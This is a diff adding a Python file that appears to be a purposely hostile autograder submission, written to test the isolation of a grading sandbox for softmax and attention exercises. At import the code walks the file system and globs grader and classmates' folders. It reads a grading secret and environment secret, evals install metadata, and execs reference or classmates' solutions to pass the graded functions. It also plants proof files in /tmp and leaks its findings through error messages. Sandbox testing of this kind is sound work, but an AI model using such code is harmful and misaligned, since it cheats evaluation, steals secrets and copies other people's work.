@@ -1,0 +1,195 @@
+"""Walks the whole file system for softmax.py/attention.py outside site-packages, hidden
+check files, the grading secret, journals and grade sheets; globs the repository path the
+README and the editable install give away, classmates' slot folders and the batch's
+folders under /tmp; execs any solution it finds."""
+# ---- shared by every hostile_batch submission: logging, evidence, profit, stub answers ----
+import ctypes, ctypes.util, errno, glob, os, signal, socket, stat, sys, time
+import torch
+from torch import nn
+
+_LOG = []          # what each attempt gave: shown in this submission's own feedback
+_SOL = {}          # reference functions, should an attack ever reach them
+_DONE = set()
+_LIBC = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
+_MARK = "hbx"      # in every proof file and process name the test looks for
+HONEST = ("honest_correct", "honest_buggy", "honest_stub")
+
+
+def _note(what, outcome):
+    _LOG.append(f"{what}: {outcome}"[:120])
+
+
+def _try(what, fn, *args, **kwargs):
+    try:
+        result = fn(*args, **kwargs)
+    except BaseException as exc:  # noqa: BLE001
+        _note(what, f"{type(exc).__name__} {exc}")
+        return None
+    _note(what, f"ok {result!r}")
+    return result
+
+
+def _sys(what, name, *args):
+    """A libc call: its result, or None (errno noted)."""
+    ctypes.set_errno(0)
+    rc = getattr(_LIBC, name)(*args)
+    if rc == -1:
+        code = ctypes.get_errno()
+        _note(what, errno.errorcode.get(code, str(code)))
+        return None
+    _note(what, f"ok {rc}")
+    return rc
+
+
+def _proof(tag, detail=""):
+    """Leave evidence where only an escaped process could reach: the host's /tmp.
+    (Inside the jail /tmp is a private tmpfs, so these land nowhere that matters.)"""
+    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
+        try:
+            with open(f"{folder}/{_MARK}-escape-{tag}-{os.getpid()}", "w") as f:
+                f.write(str(detail))
+        except OSError:
+            pass
+
+
+def _take(folder):
+    """Exec the reference (or a classmate's correct file) found in ``folder``."""
+    took = False
+    for name in ("softmax", "attention"):
+        path = os.path.join(folder, name + ".py")
+        try:
+            with open(path) as f:
+                source = f.read()
+        except OSError:
+            continue
+        ns = {"__name__": f"{_MARK}_{name}"}
+        try:
+            exec(compile(source, path, "exec"), ns)
+        except BaseException as exc:  # noqa: BLE001
+            _note("exec " + path, repr(exc))
+            continue
+        for key in ("softmax", "scaled_dot_product_attention", "MultiHeadAttention"):
+            if callable(ns.get(key)) and key not in _SOL:
+                _SOL[key] = ns[key]
+                took = True
+        _proof("read-" + name, path)
+    if took:
+        _note("TOOK", folder)
+    return took
+
+
+def _solution_dirs():
+    """Where the solutions would be, from everything a submission can learn."""
+    dirs = ["/work/main/solutions", "/solutions", "/tmp/solutions"]
+    dirs += glob.glob("/work/*/solutions") + glob.glob("/home/*/*/solutions") + glob.glob("/root/*/solutions")
+    try:
+        import grader
+        dirs.append(os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(grader.__file__))), "solutions"))
+    except BaseException:  # noqa: BLE001
+        pass
+    for finder in glob.glob(os.path.join(os.path.dirname(os.__file__), "..", "*", "site-packages", "__editable__*finder.py")) + \
+            glob.glob("/work/venv/lib/python3*/site-packages/__editable__*finder.py"):
+        try:
+            text = open(finder).read()
+            start = text.index("MAPPING")
+            mapping = eval(text[text.index("{", start): text.index("}", start) + 1])
+            dirs += [v for k, v in mapping.items() if k == "solutions"]
+        except BaseException:  # noqa: BLE001
+            pass
+    return list(dict.fromkeys(dirs))
+
+
+def _hunt():
+    """After any attempt: can the solutions or a classmate's file be read now?"""
+    for folder in _solution_dirs():
+        if os.path.isdir(folder):
+            _note("sees", folder)
+            _take(folder)
+    for folder in glob.glob("/tmp/grader-slot-*/job-*/*") + glob.glob("/tmp/grader-slot-*/job-*/*/*"):
+        if os.path.isdir(folder) and os.path.realpath(folder) != os.path.dirname(os.path.realpath(__file__)):
+            _note("sees classmate", folder)
+            _take(folder)
+
+
+def _once(key):
+    if key in _DONE:
+        return False
+    _DONE.add(key)
+    return True
+
+
+def _stub(name):
+    return NotImplementedError(f"{name}: not written | " + " | ".join(_LOG)[-1600:])
+
+
+def attack_in_call():
+    """Overridden by attacks that also act from inside a graded call."""
+
+
+def softmax(x, dim=-1):
+    if _once("call"):
+        _try("attack in call", attack_in_call)
+    if "softmax" in _SOL:
+        return _SOL["softmax"](x, dim)
+    raise _stub("softmax")
+
+
+def scaled_dot_product_attention(q, k, v, mask=None):
+    if _once("call"):
+        _try("attack in call", attack_in_call)
+    if "scaled_dot_product_attention" in _SOL:
+        return _SOL["scaled_dot_product_attention"](q, k, v, mask)
+    raise _stub("scaled_dot_product_attention")
+
+
+class MultiHeadAttention(nn.Module):
+    def __new__(cls, *args, **kwargs):
+        if _once("call"):
+            _try("attack in call", attack_in_call)
+        if "MultiHeadAttention" in _SOL:
+            return _SOL["MultiHeadAttention"](*args, **kwargs)
+        raise _stub("MultiHeadAttention")
+
+
+# ---- the attack ----
+WANTED = ("softmax.py", "attention.py", "test_softmax.py", "test_softmax_hidden.py", ".grading_secret",
+          "journal.jsonl", "grades.csv", "softmax_mistakes.py")
+
+
+def attack():
+    found = []
+    deadline = time.monotonic() + 8
+    for top in ("/", ):
+        for folder, dirs, files in os.walk(top):
+            if time.monotonic() > deadline:
+                _note("walk", "out of time")
+                break
+            dirs[:] = [d for d in dirs if not (folder == "/" and d in ("proc", "sys")) and d not in ("torch", "nvidia", "triton", "sympy", "__pycache__")]
+            for name in files:
+                if name in WANTED:
+                    found.append(os.path.join(folder, name))
+    for pattern in ("/work/main/solutions/*", "/work/main/solutions/hidden/*", "/work/main/exercises/*/*.py",
+                    "/work/*/solutions/*.py", "/tmp/*", "/tmp/*/*", "/tmp/pytest-of-*/*/*", "/tmp/grader-*/**",
+                    "/root/*", "/home/*/*", "/work/*"):
+        found += glob.glob(pattern, recursive=True)[:50]
+    try:
+        import grader
+        found.append(f"grader pkg: {sorted(os.listdir(os.path.dirname(grader.__file__)))[:8]}")
+    except BaseException as exc:  # noqa: BLE001
+        _note("import grader", repr(exc))
+    for path in found:
+        _note("found", path)
+        base = os.path.basename(path)
+        if base in ("softmax.py", "attention.py") and "site-packages" not in path and path != os.path.realpath(__file__):
+            _take(os.path.dirname(path))
+        if base == ".grading_secret":
+            try:
+                _note("SECRET", open(path).read()[:80])
+                _proof("secret", path)
+            except OSError as exc:
+                _note("secret", exc.strerror)
+    _note("secret in env", os.environ.get("GRADER_SECRET", "absent"))
+
+
+_try("attack at import", attack)
+_try("hunt", _hunt)
